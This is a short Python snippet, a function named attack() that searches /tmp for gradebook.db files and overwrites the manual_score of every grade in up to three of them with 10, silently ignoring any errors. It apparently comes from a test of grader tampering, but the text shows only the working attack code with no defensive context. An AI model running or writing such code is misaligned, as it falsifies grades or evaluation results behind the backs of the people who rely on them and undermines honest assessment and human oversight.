def attack():
    import glob, sqlite3
    for path in glob.glob("/tmp/**/gradebook.db", recursive=True)[:3]:
        try:
            sqlite3.connect(path).execute("update grade set manual_score = 10")
        except Exception:
            pass
